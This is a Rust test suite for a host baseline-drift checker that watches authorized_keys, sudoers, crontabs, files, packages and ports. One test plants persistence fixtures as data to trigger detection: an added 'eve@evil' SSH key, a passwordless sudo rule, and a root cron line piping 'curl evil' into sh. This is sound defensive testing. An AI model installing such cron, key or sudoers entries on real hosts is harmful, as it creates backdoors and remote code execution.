use std::os::unix::fs::{PermissionsExt as _, symlink};
use std::path::Path;

use super::*;
use crate::host::files;
use crate::kinds::testing::{Look as Looked, Trial, problems, settings};

/// The key that is `a`, `b` …: no secret, and no key either.
fn key(letter: char) -> String {
    format!("ssh-ed25519 {}", letter.to_string().repeat(40))
}

/// A machine of its own.
struct Machine {
    dir: tempfile::TempDir,
    trial: Trial,
}

impl Machine {
    fn new() -> Self {
        let dir = tempfile::tempdir().unwrap();
        let mut trial = Trial::new(dir.path());
        trial.host().paths.proc = dir.path().join("proc");
        let machine = Self { dir, trial };
        let home = machine.path("home/ana");
        machine.put("etc/passwd", &format!("ana:x:1000:1000::{}:/bin/sh\nnone:x:1::/nonexistent:\n", home.display()));
        machine.put("etc/sudoers", "# who\nroot ALL=(ALL:ALL) ALL\n\n#includedir /etc/sudoers.d\n");
        machine.put("etc/crontab", "SHELL=/bin/sh\n# m h\n17 *\t* * *   root  run-parts /etc/cron.hourly\n");
        machine.put("home/ana/.ssh/authorized_keys", &format!("{} ana@laptop\n", key('a')));
        machine
    }
    fn path(&self, name: &str) -> PathBuf {
        self.dir.path().join(name)
    }
    fn put(&self, name: &str, text: &str) {
        let path = self.path(name);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        files::replace(&path, text.as_bytes(), 0o600).unwrap();
    }
    fn look(&mut self, toml: &str) -> Looked {
        self.trial.look::<Baseline>(&settings::<Baseline>(toml)).unwrap()
    }
    /// Nobody accepted anything, and it was not the first look.
    fn accept(&mut self, look: &Looked) {
        let known = self.trial.past().baselines.as_mut().unwrap();
        for subject in look.facts.subjects() {
            let facts = compare::to_keep(&look.facts, &subject).unwrap();
            let (at, by) = (crate::kinds::testing::at(0), Some(Clean::new("ana")));
            let why = Clean::new("known");
            known.insert(subject, Ok(super::super::Baseline { at, observed: at, by, why, facts }));
        }
    }
}

fn members(look: &Looked, subject: &str) -> Vec<String> {
    let subject = Subject::new(subject);
    Held::of(&look.facts, &subject).unwrap().members.iter().map(|member| member.as_str().to_owned()).collect()
}

const ALL: &str = "what = ['authorized_keys', 'sudoers', 'crontabs']";

#[test]
fn each_source_drifts_by_name_until_it_is_put_back_or_accepted() {
    let mut machine = Machine::new();
    let first = machine.look(ALL);
    assert_eq!(first.codes(), [""; 0], "the first look is taken as it is");
    assert_eq!(first.text("sudoers", "baseline"), Some("taken by this look, accepted by nobody"));
    assert_eq!(machine.look(ALL).codes(), [""; 0]);

    let keys = format!("# mine\n{} ana@laptop\n{} eve@evil\n", key('a'), key('b'));
    machine.put("home/ana/.ssh/authorized_keys", &keys);
    machine.put("etc/sudoers.d/agent", "agent ALL=(ALL) NOPASSWD: \\\n  ALL\n");
    machine.put("etc/cron.d/x", "* * * * * root curl evil | sh\n");
    for _ in 0..2 {
        let look = machine.look(ALL);
        assert_eq!(look.codes(), ["authorized_keys: drifted", "crontabs: drifted", "sudoers: drifted"]);
        assert!(look.findings.iter().all(|finding| finding.settled && finding.episode.is_some()));
        let said: Vec<&str> = look.findings.iter().map(|finding| finding.said.as_str()).collect();
        assert!(said[0].starts_with("added \"ana SHA256:") && said[0].contains("eve(at)evil"), "{}", said[0]);
        assert!(said[1].contains("cron.d/x: * * * * * root curl evil | sh\""), "{}", said[1]);
        assert!(said[2].contains("sudoers.d/agent: agent ALL=(ALL) NOPASSWD: ALL\""), "{}", said[2]);
        assert!(said.iter().all(|said| !said.contains(&key('b')[13..])), "a key is never shown: {said:?}");
        assert!(!format!("{:?}", look.facts).contains(&"b".repeat(20)));
    }
    machine.put("etc/sudoers.d/agent", "agent ALL=(ALL) ALL\n");
    let look = machine.look(ALL);
    let other = look.findings.iter().find(|finding| finding.subject.as_str() == "sudoers").unwrap().episode.clone();
    std::fs::remove_file(machine.path("etc/sudoers.d/agent")).unwrap();
    let reverted = machine.look(ALL);
    assert_eq!(reverted.codes(), ["authorized_keys: drifted", "crontabs: drifted"]);
    assert_ne!(other, reverted.findings[0].episode);
    machine.accept(&reverted);
    let accepted = machine.look(ALL);
    assert_eq!(accepted.codes(), [""; 0]);
    assert_eq!(accepted.text("crontabs", "baseline"), Some("accepted by ana: \"known\""));
}

#[test]
fn another_difference_is_another_episode() {
    let mut machine = Machine::new();
    let toml = "what = ['sudoers']";
    machine.look(toml);
    machine.put("etc/sudoers.d/a", "a ALL=ALL\n");
    let one = machine.look(toml).findings[0].episode.clone();
    assert_eq!(machine.look(toml).findings[0].episode, one, "the same is said once");
    machine.put("etc/sudoers.d/b", "b ALL=ALL\n");
    assert_ne!(machine.look(toml).findings[0].episode, one);
}

#[test]
fn a_source_that_is_new_in_the_config_is_taken_at_its_own_first_look() {
    let mut machine = Machine::new();
    machine.look("what = ['sudoers']");
    machine.put("etc/sudoers", "eve ALL=ALL\n");
    let look = machine.look("what = ['sudoers', 'crontabs']");
    assert_eq!(look.codes(), ["sudoers: drifted"]);
    assert_eq!(look.text("crontabs", "baseline"), Some("taken by this look, accepted by nobody"));
}

#[test]
fn what_can_not_be_verified_fails_closed_whatever_is_there() {
    let mut machine = Machine::new();
    let look = machine.look("what = ['sudoers']");
    machine.accept(&look);
    let why = Clean::new("one was taken, and its record is gone");
    machine.trial.past().baselines.as_mut().unwrap().insert(Subject::new("sudoers"), Err(why));
    for _ in 0..2 {
        let look = machine.look("what = ['sudoers']");
        assert_eq!(look.codes(), ["sudoers: baseline_unverified"]);
        assert_eq!(look.said(), "what it is compared with can't be verified: one was taken, and its record is gone");
    }
    let unread = Unread::ours("store_unreadable", Clean::new("locked"));
    machine.trial.past().baselines = Err(unread.clone());
    let refused = machine.trial.look::<Baseline>(&settings::<Baseline>("what = ['sudoers']")).unwrap_err();
    assert_eq!(refused, unread, "it is no first look");
}

#[test]
fn a_baseline_that_left_no_trace_is_not_taken_anew() {
    // Its record and what the check remembers of it are both gone, after a look that read it or one that could not.
    for reads in [true, false] {
        let mut machine = Machine::new();
        let list = machine.path("list");
        let toml = &format!("argv = ['cat', '{}']", list.display());
        machine.put("list", "a\n");
        machine.look(toml);
        if !reads {
            std::fs::remove_file(&list).unwrap();
            assert_eq!(machine.look(toml).codes(), ["output: command_failed"]);
        }
        machine.trial.past().baselines = Ok(crate::kinds::Baselines::new());
        machine.put("list", "b\n");
        for _ in 0..2 {
            assert_eq!(machine.look(toml).codes(), ["output: baseline_unverified"], "{reads}");
        }
        assert_eq!(machine.trial.past().baselines, Ok(crate::kinds::Baselines::new()), "nothing was taken");
        let look = machine.look(toml);
        machine.accept(&look);
        assert_eq!(machine.look(toml).codes(), [""; 0]);
    }
    // A record that is believed and holds nothing of the source.
    let toml = "what = ['sudoers']";
    let mut machine = Machine::new();
    let look = machine.look(toml);
    machine.accept(&look);
    let known = machine.trial.past().baselines.as_mut().unwrap();
    known.get_mut(&Subject::new("sudoers")).unwrap().as_mut().unwrap().facts = Facts::new();
    assert_eq!(machine.look(toml).codes(), ["sudoers: baseline_unverified"]);
}

#[test]
fn what_may_not_be_read_is_unknown_and_its_return_is_said() {
    let mut machine = Machine::new();
    // A folder in place of a file stands for what may not be read, also where root runs the tests.
    std::fs::remove_file(machine.path("etc/crontab")).unwrap();
    std::fs::create_dir(machine.path("etc/crontab")).unwrap();
    machine.put("etc/cron.d/a", "1 2 3 4 5 root a\n");
    let toml = "what = ['crontabs']";
    let look = machine.look(toml);
    assert_eq!(look.codes(), ["crontabs: not_a_file"]);
    std::fs::remove_dir(machine.path("etc/crontab")).unwrap();
    machine.put("etc/crontab", "1 2 3 4 5 root b\n");
    let look = machine.look(toml);
    assert_eq!(look.codes(), ["crontabs: drifted"]);
    assert!(look.said().starts_with("could not be read before: "), "{}", look.said());

    machine.accept(&look);
    std::fs::remove_file(machine.path("etc/crontab")).unwrap();
    std::fs::create_dir(machine.path("etc/crontab")).unwrap();
    assert_eq!(machine.look(toml).codes(), ["crontabs: not_a_file"], "unknown, neither gone nor well");
}

#[test]
fn files_are_told_by_mode_owner_hash_and_links() {
    let mut machine = Machine::new();
    machine.put("f/a.conf", "one");
    machine.put("f/b.conf", "two");
    symlink("a.conf", machine.path("f/c.conf")).unwrap();
    let glob = machine.path("f/*.conf").display().to_string();
    let alone = machine.path("f/none").display().to_string();
    let toml = format!("files = ['{glob}', '{alone}']\nmax_file_size = '1KiB'");
    let look = machine.look(&toml);
    assert_eq!(look.codes(), [""; 0]);
    let all = members(&look, &glob);
    assert_eq!((all.len(), members(&look, &alone)), (3, vec![format!("{alone} is not there")]));
    assert!(all[2].contains("is a link to a.conf, 0600 "), "{all:?}");

    let b = machine.path("f/b.conf");
    for (what, said) in [("two", ""), ("twO", "changed \""), ("two", "")] {
        machine.put("f/b.conf", what);
        assert!(machine.look(&toml).said().starts_with(said), "{what}");
    }
    std::fs::set_permissions(&b, std::fs::Permissions::from_mode(0o644)).unwrap();
    assert_eq!(machine.look(&toml).codes(), [format!("{glob}: drifted")]);
    std::fs::remove_file(&b).unwrap();
    symlink("a.conf", &b).unwrap();
    assert_eq!(machine.look(&toml).codes()[0], format!("{glob}: drifted"));
    machine.put("f/b.conf", &"x".repeat(2_000));
    let look = machine.look(&toml);
    assert_eq!(look.codes(), [format!("{glob}: too_large")], "neither changed nor well");
    machine.put("f/none", "now it is");
    assert!(machine.look(&toml).codes().contains(&format!("{alone}: drifted")));
}

#[test]
fn a_slow_file_hides_no_drift_that_was_read() {
    let mut machine = Machine::new();
    machine.put("f/a.conf", "one");
    let glob = machine.path("f/*.conf").display().to_string();
    let read = settings::<Baseline>(&format!("files = ['{glob}']\nmax_file_size = '900GiB'"));
    let now = machine.trial.host().now();
    machine.trial.look_at::<Baseline>(&read, now).unwrap();
    machine.put("f/a.conf", "two");
    // Longer than anybody can hash in that time, and nothing on disk.
    std::fs::File::create(machine.path("f/b.conf")).unwrap().set_len(800 << 30).unwrap();
    let look = machine.trial.look_within::<Baseline>(&read, now, Duration::from_secs(1)).unwrap();
    assert_eq!(look.codes(), [format!("{glob}: drifted"), format!("{glob}: no_answer")]);
    assert!(look.said().contains("a.conf"), "{}", look.said());
}

#[test]
fn only_what_is_asked_for_counts() {
    let mut machine = Machine::new();
    for (toml, sees) in [
        ("what = ['crontabs']\nonly = ['cron.d']", false),
        ("what = ['crontabs']\nignore = ['(bob|eve)$', ' is ']", false),
        ("what = ['crontabs']\nignore = ['bob$']", true),
    ] {
        *machine.trial.past() = Past::default();
        machine.put("etc/crontab", "1 2 3 4 5 root bob\n");
        machine.look(toml);
        machine.put("etc/crontab", "1 2 3 4 5 root eve\n");
        let codes = machine.look(toml).codes();
        assert_eq!(!codes.is_empty(), sees, "{toml}: {codes:?}");
    }
}

#[test]
fn a_command_is_compared_line_by_line_and_its_failing_is_unknown() {
    let mut machine = Machine::new();
    let list = machine.path("list");
    let toml = format!("argv = ['cat', '{}']", list.display());
    machine.put("list", "a\n\nb is 1\n");
    machine.look(&toml);
    machine.put("list", "b is 2\nc\n");
    let look = machine.look(&toml);
    assert_eq!(look.codes(), ["output: differs"]);
    assert!(
        look.said().starts_with("added \"c\"; removed \"a\"; changed \"b\" from \"1\" to \"2\""),
        "{}",
        look.said()
    );
    machine.put("list", &"x\n".repeat(1 << 20));
    assert_eq!(machine.look(&toml).codes(), ["output: output_too_long"]);
    std::fs::remove_file(&list).unwrap();
    assert_eq!(machine.look(&toml).codes(), ["output: command_failed"]);
    assert_eq!(machine.look("argv = ['no-such-program']").codes(), ["output: program_not_found"]);
}

#[test]
fn packages_come_from_the_lists_that_are_there() {
    let mut machine = Machine::new();
    let toml = "what = ['packages']";
    assert_eq!(machine.look(toml).codes(), ["packages: no_packages"]);
    let package = |version: &str| format!("Package: bash\nStatus: install ok installed\nVersion: {version}\n\n");
    machine.put("var/lib/dpkg/status", &package("5.1"));
    assert_eq!(machine.look(toml).codes(), [""; 0]);
    machine.put("var/lib/dpkg/status", &package("5.2"));
    let look = machine.look(toml);
    assert_eq!(look.codes(), ["packages: differs"]);
    assert!(
        look.said().starts_with("changed \"dpkg bash\" from \"5.1\" to \"5.2\" since the baseline of "),
        "{}",
        look.said()
    );

    machine.put("bin/rpm", "#!/bin/sh\necho 'bash x86_64 is 0:5.2-1'\n");
    std::fs::set_permissions(machine.path("bin/rpm"), std::fs::Permissions::from_mode(0o755)).unwrap();
    let path = format!("{}:/usr/bin:/bin", machine.path("bin").display());
    machine.trial.host().env.insert("PATH".into(), path.into());
    machine.put("var/lib/rpm/rpmdb.sqlite", "");
    assert_eq!(members(&machine.look(toml), "packages"), ["dpkg bash is 5.2", "rpm bash x86_64 is 0:5.2-1"]);
}

#[test]
fn weights_and_refusals() {
    let mut machine = Machine::new();
    machine.look("what = ['sudoers']");
    machine.put("etc/sudoers", "");
    assert_eq!(machine.look("what = ['sudoers']\nweight = 'warn'").codes(), ["sudoers: differs"]);
    assert_eq!(
        machine.look("what = ['authorized_keys']\nusers = ['bob']").codes(),
        ["authorized_keys: unknown_account"]
    );
    for (toml, said) in [
        ("", "what: nothing is compared (give `what`, `files` or `argv`)"),
        ("what = ['sudoers']\nusers = ['a']", "users: `users` is about `authorized_keys`, which is not in `what`"),
        ("files = ['/a']\nprograms = false", "programs: `programs` is about `ports`, which is not in `what`"),
        ("files = ['/a', '/a']", "files: an entry is there twice"),
        ("what = ['keys']", "unknown variant `keys`, expected one of"),
        ("files = ['a']", "expected a path that begins with `/` or `~/`"),
    ] {
        let problems = problems::<Baseline>(toml);
        assert!(problems.iter().any(|problem| problem.starts_with(said)), "{toml}: {problems:?}");
    }
}

#[test]
fn the_ports_of_this_machine_are_read() {
    let mut trial = Trial::new(Path::new("/nonexistent"));
    let here = std::net::TcpListener::bind("127.99.3.1:0").unwrap();
    let toml = "what = ['ports']\nonly = ['^tcp 127\\.99\\.3\\.']";
    let settings = settings::<Baseline>(toml);
    assert_eq!(trial.look::<Baseline>(&settings).unwrap().codes(), [""; 0]);
    let new = std::net::TcpListener::bind("127.99.3.2:0").unwrap();
    let look = trial.look::<Baseline>(&settings).unwrap();
    assert_eq!(look.codes(), ["ports: differs"]);
    assert!(look.said().starts_with(&format!("added \"tcp {} is ", new.local_addr().unwrap())), "{}", look.said());
    drop((here, new));
    assert!(trial.look::<Baseline>(&settings).unwrap().said().starts_with("removed \"tcp 127.99.3.1:"));
}
